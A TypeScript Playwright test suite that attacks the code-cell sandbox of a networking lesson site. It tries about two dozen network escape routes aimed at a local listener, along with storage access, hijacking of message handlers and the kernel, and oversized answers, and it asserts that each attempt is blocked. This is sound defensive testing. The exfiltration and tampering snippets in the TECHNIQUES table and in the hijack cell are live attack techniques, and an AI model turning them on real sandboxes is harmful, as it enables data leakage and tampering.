/**
 * The cell sandbox, attacked from cells as a reader's or a stranger's code
 * would: every way a worker could reach the network or storage — fetch,
 * XHR, EventSource, WebSocket, WebSocketStream, `import()` of same-origin,
 * cross-origin and data: URLs, importScripts, nested workers, fonts,
 * storage buckets, the cache API, IndexedDB, OPFS, beacons, images,
 * WebTransport, WebRTC, BroadcastChannel, and a timer that fires after the
 * answer — makes zero connections to a listener on 127.0.0.1 (and no
 * request to the site), while a request from the page itself does reach it;
 * every storage API fails. A cell that wraps `onmessage`, the worker's
 * globals or the kernel changes neither the next run nor the lesson's
 * verdict after Reset, and leaves no worker running. A 256 MB answer, a
 * 64 MB error message and a world of 50,000 namespaces are refused with a
 * message, and 256 MB posted past the answer's channel is read by nobody,
 * while the page answers input within 200 ms throughout.
 *
 * @module
 */
import { test } from "uvu";
import * as assert from "uvu/assert";
import type { Page } from "playwright-core";
import { browserSkipReason } from "./harness.ts";
import type { PageHandle } from "./harness.ts";
import {
  assertDropped,
  cell,
  exampleWorld,
  ranAfter,
  run,
  runCode,
  setCode,
  Site,
  status,
  valueOf,
} from "./cells.ts";
import { LeakListener } from "./listener.ts";
import * as kernel from "../../lessons/kernel/mod.js";
import { skipSuite } from "../support/skip.ts";

const skip = browserSkipReason();
const site = new Site();
const leaks = new LeakListener();

test.after(async () => {
  await site.close();
  await leaks.close();
});

/** A cell that tries one thing (at most 800 ms) and returns what happened as `result`. */
function attemptCell(expression: string): string {
  return [
    `const L = "${leaks.http}", W = "${leaks.ws}", PORT = ${leaks.port};`,
    `const SITE = ${JSON.stringify(site.server?.url ?? "")};`,
    "const within = (p) => Promise.race([p, new Promise((r) => setTimeout(() => r('no answer'), 800))]);",
    "let result;",
    "try {",
    `  result = "ok: " + String(await within(Promise.resolve().then(() => ${expression}))).slice(0, 200);`,
    "} catch (e) {",
    '  result = "refused: " + String(e && e.name) + ": " + String(e && e.message).slice(0, 200);',
    "}",
    "return { world, result };",
  ].join("\n");
}

/** Every way out that a cell might try, by name. */
const TECHNIQUES: Record<string, string> = {
  "fetch": 'fetch(L + "/fetch")',
  "fetch no-cors": 'fetch(L + "/no-cors", { mode: "no-cors" })',
  "XMLHttpRequest": `new Promise((res, rej) => { const x = new XMLHttpRequest();
    x.open("GET", L + "/xhr"); x.onload = () => res(x.status);
    x.onerror = () => rej(new Error("xhr error")); x.send(); })`,
  "sync XMLHttpRequest":
    '(() => { const x = new XMLHttpRequest(); x.open("GET", L + "/sync-xhr", false); x.send(); return x.status; })()',
  "EventSource": `new Promise((res, rej) => { const s = new EventSource(L + "/es");
    s.onopen = () => res("open"); s.onerror = () => { s.close(); rej(new Error("EventSource error")); }; })`,
  "WebSocket": `new Promise((res, rej) => { const w = new WebSocket(W + "/ws");
    w.onopen = () => res("open"); w.onerror = () => rej(new Error("WebSocket error")); })`,
  "WebSocketStream":
    '(async () => { const s = new WebSocketStream(W + "/wss"); await s.opened; return "open"; })()',
  "import() cross-origin": 'import(L + "/module.js")',
  "import() same-origin": 'import(SITE + "exfil/module.js")',
  "import() data: importing http":
    'import("data:text/javascript," + encodeURIComponent(`import("${L}/via-data.js")`))',
  "importScripts": 'importScripts(L + "/script.js")',
  "new Worker(url)": `new Promise((res, rej) => { const w = new Worker(L + "/worker.js");
    w.onerror = () => rej(new Error("worker error")); setTimeout(() => res("started"), 500); })`,
  "nested blob: worker that fetches": `new Promise((res) => {
    const code = 'fetch("' + L + '/nested").then(() => postMessage("fetched"), (e) => postMessage("refused: " + e));';
    const w = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    w.onmessage = (e) => res(e.data); w.onerror = () => res("refused: worker error"); })`,
  "FontFace.load":
    '(async () => { const f = new FontFace("leak", "url(" + L + "/font.woff2)"); self.fonts.add(f); await f.load(); return "loaded"; })()',
  "self.fonts.load":
    '(async () => { self.fonts.add(new FontFace("leak2", "url(" + L + "/font2.woff2)")); return await self.fonts.load("12px leak2"); })()',
  "storageBuckets caches.add":
    '(async () => { const b = await navigator.storageBuckets.open("b"); const c = await b.caches.open("c"); await c.add(L + "/bucket"); return "added"; })()',
  "caches.add":
    '(async () => { const c = await caches.open("c"); await c.add(L + "/cache"); return "added"; })()',
  "navigator.sendBeacon": 'navigator.sendBeacon(L + "/beacon", "x")',
  "new Image().src":
    `new Promise((res, rej) => { const i = new Image(); i.onload = () => res("loaded");
    i.onerror = () => rej(new Error("image error")); i.src = L + "/image.png"; })`,
  "OffscreenCanvas image":
    '(async () => { const c = new OffscreenCanvas(1, 1); const b = await createImageBitmap(await (await fetch(L + "/bitmap.png")).blob()); c.getContext("2d").drawImage(b, 0, 0); return "drawn"; })()',
  "WebAssembly.compileStreaming": 'WebAssembly.compileStreaming(fetch(L + "/module.wasm"))',
  "WebTransport":
    '(async () => { const t = new WebTransport("https://127.0.0.1:" + PORT + "/wt"); await t.ready; return "ready"; })()',
  "RTCPeerConnection (TURN over TCP)": `(async () => {
    const pc = new RTCPeerConnection({ iceServers: [{ urls: "turn:127.0.0.1:" + PORT + "?transport=tcp", username: "u", credential: "c" }] });
    pc.createDataChannel("x"); await pc.setLocalDescription(await pc.createOffer());
    await new Promise((r) => setTimeout(r, 500)); return pc.iceGatheringState; })()`,
  "BroadcastChannel to the page":
    '(() => { new BroadcastChannel("podnet-leak").postMessage("from a cell"); return "posted"; })()',
};

/** Storage a cell must not get. */
const STORAGE: Record<string, string> = {
  "indexedDB": `new Promise((res, rej) => { const r = indexedDB.open("leak");
    r.onsuccess = () => res("opened"); r.onerror = () => rej(r.error); })`,
  "caches": 'caches.open("leak")',
  "OPFS": "navigator.storage.getDirectory()",
  "storageBuckets": 'navigator.storageBuckets.open("leak")',
  "storage estimate": "navigator.storage.estimate().then((e) => JSON.stringify(e))",
  "localStorage": 'localStorage.setItem("leak", "1")',
};

async function open(path = "en/hosts"): Promise<PageHandle> {
  const p = await site.open(path);
  // The page listens where a cell would try to reach it without the network.
  await p.page.evaluate(() => {
    const w = window as unknown as { __heard: string[] };
    w.__heard = [];
    new BroadcastChannel("podnet-leak").onmessage = (e) => w.__heard.push(String(e.data));
  });
  return p;
}

async function tryCell(page: Page, expression: string): Promise<string> {
  await setCode(page, "lost-route", attemptCell(expression));
  await run(page, "lost-route");
  const v = await valueOf(page, "lost-route");
  assert.ok(v.ok, `the cell ran: ${v.error}`);
  return String(v.value?.result);
}

/** The sandbox's workers alive in this page's browser context, from the browser itself. */
async function liveWorkers(p: PageHandle): Promise<number> {
  const cdp = await p.context.newCDPSession(p.page);
  try {
    const { targetInfos } = await cdp.send("Target.getTargets");
    const me = targetInfos.find((t) => t.type === "page" && t.url === p.page.url());
    return targetInfos.filter((t) =>
      t.type === "worker" && t.url.startsWith("blob:null/") &&
      t.browserContextId === me?.browserContextId
    ).length;
  } finally {
    await cdp.detach();
  }
}

const gateway = () => exampleWorld("gateway");

if (skip) {
  skipSuite("browser: sandbox", skip);
} else {
  test("sandbox: no way out of a cell reaches the listener or the site, and every storage API fails", async () => {
    await using p = await open();
    const siteBefore = site.server!.requests.length;
    const results: Record<string, string> = {};
    for (const [name, expression] of Object.entries(TECHNIQUES)) {
      results[name] = await tryCell(p.page, expression);
      assert.equal(leaks.connections, [], `${name}: ${results[name]}`);
    }
    for (const [name, expression] of Object.entries(STORAGE)) {
      const result = await tryCell(p.page, expression);
      assert.match(result, /^refused: /, `${name} must fail: ${result}`);
    }
    // Late attempts land after the runs: give them time, then look again.
    await new Promise((r) => setTimeout(r, 1_500));
    assert.equal(leaks.connections, [], JSON.stringify(results, null, 2));
    const fromCells = site.server!.requests.slice(siteBefore).filter((r) => r.includes("exfil"));
    assert.equal(fromCells, [], "a same-origin import() reaches the site");
    assert.equal(
      await p.page.evaluate(() => (window as unknown as { __heard: string[] }).__heard),
      [],
      "a BroadcastChannel message reached the page",
    );
    assert.equal(p.externalRequests, []);
    // The listener does see what reaches it: the page itself, outside the sandbox, can.
    await p.page.evaluate((url) => fetch(`${url}/control`, { mode: "no-cors" }), leaks.http);
    assert.equal(leaks.connections.length, 1, "the page's own request reached the listener");
    assert.match(leaks.connections[0], /^GET \/control /);
    leaks.connections.length = 0;
  });

  test("sandbox: a timer a cell leaves behind dies with its worker, and the 2 s limit ends the rest", async () => {
    await using p = await open();
    await runCode(
      p.page,
      "lost-route",
      [
        `const L = "${leaks.http}", W = "${leaks.ws}";`,
        'setTimeout(() => fetch(L + "/late"), 50);',
        'setInterval(() => { try { new WebSocket(W + "/late"); } catch {} }, 20);',
        "setInterval(() => postMessage({ type: 'answer', text: 'forged' }), 10);",
        "return { world };",
      ].join("\n"),
    );
    assert.is(await p.page.locator(cell("lost-route")).getAttribute("data-state"), "ok");
    await new Promise((r) => setTimeout(r, 1_000));
    assert.ok(await liveWorkers(p) <= 1, "only the worker started for the next run is alive");
    await runCode(
      p.page,
      "lost-route",
      'setInterval(() => fetch("' + leaks.http + '/spin"), 5);\nawait new Promise(() => {});',
    );
    assert.match(await status(p.page, "lost-route"), /Stopped after 2 s/);
    await new Promise((r) => setTimeout(r, 500));
    assert.ok(await liveWorkers(p) <= 1, "the stopped worker is gone");
    assert.equal(leaks.connections, []);
  });

  test("sandbox: a cell that wraps onmessage, the worker's globals or the kernel changes neither the next run nor the verdict after Reset", async () => {
    await using p = await open();
    const expected = kernel.unwrap(
      kernel.trace(
        kernel.unwrap(kernel.deleteRoute(gateway(), "gateway", "10.244.2.0/24")),
        { from: "a", to: "c" },
      ),
    ).verdict;
    assert.is(expected.kind, "dropped");
    const hijack = [
      'const lie = \'return { world: kernel.unwrap(kernel.setIpForward(world, "gateway", false)), probe: { from: "a", to: "c" } };\';',
      "const original = self.onmessage;",
      "self.onmessage = (e) => { try { e.data.code = lie; } catch {} return original?.(e); };",
      "addEventListener('message', (e) => { try { e.data.code = lie; } catch {} }, true);",
      "self.postMessage = () => {};",
      "MessagePort.prototype.postMessage = function () {};",
      "Object.prototype.__tampered = true;",
      "self.__left = 'behind';",
      "kernel.trace = () => ({ ok: false, error: { field: 'from', message: 'tampered' } });",
      "kernel.loadScenario = () => ({ ok: false, error: [] });",
      "JSON.parse = () => ({ type: 'run', code: lie });",
      "setInterval(() => self.onmessage?.({ data: { type: 'run', code: lie } }), 5);",
      "return { world, probe: { from: 'a', to: 'c' } };",
    ].join("\n");
    await runCode(p.page, "lost-route", hijack);
    await runCode(
      p.page,
      "lost-route",
      'return { world, probe: { from: "a", to: "c" }, seen: [typeof self.__left, ({}).__tampered === undefined, typeof kernel.trace(world, { from: "a", to: "c" }).ok, JSON.parse("[1]").length] };',
    );
    const next = await valueOf(p.page, "lost-route");
    assert.ok(next.ok, next.error);
    assert.equal(next.value?.seen, ["undefined", true, "boolean", 1], "the next run starts clean");
    await runCode(p.page, "lost-route", hijack);
    await p.page.click('[data-testid="cell-lost-route-reset"]');
    await p.page.waitForSelector(`${cell("lost-route")}[data-state="ok"]`, { timeout: 30_000 });
    await assertDropped(p.page, "lost-route-cell", expected);
    await new Promise((r) => setTimeout(r, 300));
    assert.ok(await liveWorkers(p) <= 1, "no hijacked worker is left running");
  });

  test("sandbox: a sandbox that dies during a run is replaced, and the next run works", async () => {
    await using p = await open();
    await setCode(p.page, "lost-route", "while (true) {}");
    const before = Number(await p.page.locator(cell("lost-route")).getAttribute("data-runs"));
    await p.page.click('[data-testid="cell-lost-route-run"]');
    await p.page.waitForSelector(`${cell("lost-route")}[data-state="running"]`);
    // As if the cell had taken the iframe's process down with it.
    await p.page.evaluate(() => document.querySelector('[data-testid="cell-sandbox"]')?.remove());
    await ranAfter(p.page, "lost-route", before, 10_000);
    assert.match(
      await status(p.page, "lost-route"),
      /^The sandbox failed — The sandbox stopped answering/,
    );
    await runCode(p.page, "lost-route", 'return { world, probe: { from: "a", to: "c" } };');
    assert.is(
      await p.page.locator('[data-testid="lost-route-cell-verdict"]').getAttribute("data-verdict"),
      "delivered",
    );
    assert.is(await p.page.locator('[data-testid="cell-sandbox"]').count(), 1, "one new sandbox");
  });

  test("sandbox: a 256 MB answer, a 64 MB error and a 50,000-namespace world are refused while the page answers input within 200 ms", async () => {
    await using p = await open();
    // An ordinary failing run first: the editor is loaded and the lesson's
    // views below already show the fallback a refused answer leads to, so
    // what is measured is the page while a hostile answer is made and refused.
    await runCode(p.page, "lost-route", 'throw new Error("warm up");');
    await p.page.evaluate(() => {
      const w = window as unknown as { __lag: number[] };
      w.__lag = [];
      addEventListener("keydown", (e) => {
        const pressed = e.timeStamp;
        requestAnimationFrame(() => w.__lag.push(performance.now() - pressed));
      }, true);
    });
    const cases: [string, RegExp][] = [
      [
        'return { world, big: "x".repeat(256 * 1024 * 1024) };',
        /^Too big — The result's field \/big is a string of 268435456 characters; at most 10000$/,
      ],
      [
        'return { world, many: Array.from({ length: 40 * 1024 }, (_, i) => "y".repeat(250) + i) };',
        /^Too big — The result's other fields are \d+ MB of JSON; a cell may return at most 8\.0 MB$/,
      ],
      [
        'throw new Error("e".repeat(64 * 1024 * 1024));',
        /^Error while running — Line 1, column \d+: Error: \(a message of 67108864 characters\)$/,
      ],
      [
        // Past the answer's channel, straight at the iframe that started the worker:
        // nobody there reads it (copying 256 MB may take the cell past its limit,
        // or keep the iframe from answering a ping, and then it is replaced).
        'postMessage("p".repeat(256 * 1024 * 1024));\nreturn { world };',
        /^(Ran in [\d.]+ ms|Stopped after 2 s: .*|The sandbox failed — The sandbox stopped answering.*)$/,
      ],
      [
        "return { world: { ...world, namespaces: Array(50000).fill(world.namespaces[0]) } };",
        /^Too big — The world has 50000 namespaces; a cell may return at most 2000$/,
      ],
    ];
    for (const [code, message] of cases) {
      await setCode(p.page, "lost-route", code);
      await p.page.locator("h1").click(); // keys go to the page, not the editor
      await p.page.evaluate(() => ((window as unknown as { __lag: number[] }).__lag = []));
      const before = Number(await p.page.locator(cell("lost-route")).getAttribute("data-runs"));
      await p.page.click('[data-testid="cell-lost-route-run"]');
      let after = 0;
      while (after < 8) {
        await p.page.keyboard.press("Shift");
        await new Promise((r) => setTimeout(r, 40));
        const runs = Number(await p.page.locator(cell("lost-route")).getAttribute("data-runs"));
        if (runs > before) after++;
      }
      const text = await status(p.page, "lost-route");
      assert.ok(message.test(text), `${code.slice(0, 40)}: ${text.slice(0, 300)}`);
      assert.ok(text.length < 2_100, "the message is bounded");
      const lag = await p.page.evaluate(() => (window as unknown as { __lag: number[] }).__lag);
      assert.ok(lag.length >= 8, `input was measured (${lag.length} key presses)`);
      const worst = Math.max(...lag);
      console.log(
        `  ${code.slice(0, 48)}…: ${lag.length} key presses, worst ${worst.toFixed(0)} ms`,
      );
      assert.ok(worst <= 200, `${code.slice(0, 40)}: input answered after ${worst.toFixed(0)} ms`);
    }
    assert.equal(p.errors, []);
  });
}

test.run();
